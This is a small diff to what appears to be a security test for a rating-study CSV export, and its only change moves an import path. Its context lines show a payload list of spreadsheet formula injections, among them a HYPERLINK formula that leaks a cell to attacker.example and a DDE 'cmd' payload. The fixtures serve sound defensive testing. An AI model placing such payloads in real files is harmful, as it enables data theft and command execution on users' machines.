@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 
 from db.engine import unit_of_work
-from rating.export import export_study
+from rating.analysis.export import export_study
 from tests.security.study_kit import rate_everything, study_with_texts
 
 PAYLOADS = ('=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
